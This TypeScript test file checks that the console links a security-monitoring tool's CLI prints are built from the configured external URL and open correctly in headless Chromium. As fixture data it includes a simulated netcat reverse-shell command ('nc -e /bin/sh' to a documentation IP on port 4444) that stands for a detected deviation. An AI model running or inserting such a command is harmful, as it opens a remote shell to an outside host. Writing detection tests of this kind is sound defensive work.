/**
 * The links the CLI prints (`deviations list -o wide`, `deviations show`) open the right page in
 * headless Chromium, and they are built from `collector.http.externalUrl` — the one base every
 * link uses — not from the address the CLI happened to call. The external URL is a small
 * loopback reverse proxy in front of the harness (a stand-in for an ingress).
 */
import { createServer, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import t, { type Test } from 'tap';
import { NEEDS_CHROMIUM, launchBrowser, signIn } from '../helpers/browser.js';
import { HOUR, learnScene, proc, startHarness, T0 } from '../helpers/api-harness.js';
import { run } from '../helpers/cli-run.js';

/** A reverse proxy to `target()` (known once the harness listens), closed when the test ends. */
async function reverseProxy(t: Test, target: () => string): Promise<string> {
  const proxy = createServer((req, res) => {
    const upstream = request(new URL(req.url ?? '/', target()), { method: req.method, headers: req.headers }, (up) => {
      res.writeHead(up.statusCode ?? 502, up.headers);
      up.pipe(res);
    });
    upstream.on('error', () => res.destroy());
    req.pipe(upstream);
  });
  await new Promise<void>((resolve) => proxy.listen(0, '127.0.0.1', resolve));
  t.teardown(() => new Promise<void>((resolve) => (proxy.closeAllConnections(), proxy.close(() => resolve()))));
  return `http://localhost:${(proxy.address() as AddressInfo).port}`;
}

t.test('links printed by the CLI open the deviation in the console', NEEDS_CHROMIUM, async (t) => {
  let base = '';
  const EXTERNAL = await reverseProxy(t, () => base);
  const h = await startHarness(t, { overrides: { 'collector.http.externalUrl': EXTERNAL } });
  base = h.base;
  const { web } = await learnScene(h);
  const d = await h.raise(proc(web, T0 + 3 * HOUR, '/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'));

  const wide = await run(h, ['deviations', 'list', '-o', 'wide']);
  t.equal(wide.code, 0, wide.err);
  const row = wide.out.split('\n').find((l) => l.startsWith(`${d.id} `));
  const fromList = /(\S+)\s*$/.exec(row ?? '')?.[1];
  const show = await run(h, ['deviations', 'show', String(d.id)]);
  t.equal(show.code, 0, show.err);
  const fromShow = /^console\s+(\S+)$/m.exec(show.out)?.[1];
  t.equal(fromList, `${EXTERNAL}/ui/deviations/${d.id}`, 'list -o wide: the external URL, not the API address the CLI called');
  t.equal(fromShow, `${EXTERNAL}/ui/deviations/${d.id}`, 'show: the same link');

  const page = await (await launchBrowser(t)).newPage();
  const problems: string[] = [];
  page.on('pageerror', (e) => problems.push(e.message));
  await signIn(page, `${EXTERNAL}/ui/`, h.tokens.viewer);
  await page.waitForSelector('h1:text("Overview")');
  for (const [source, url] of [['list -o wide', fromList!], ['show', fromShow!]]) {
    const res = await page.goto(url);
    t.equal(res?.status(), 200, `${source}: ${url} opens`);
    t.equal(page.url(), `${EXTERNAL}/ui/#/deviations/${d.id}`, `${source}: the console's deviation route`);
    await page.waitForSelector('h2:text("Process tree")');
    t.match(await page.textContent('h1'), d.summary, `${source}: deviation ${d.id} is shown`);
  }
  t.same(problems, [], 'no page errors');
});
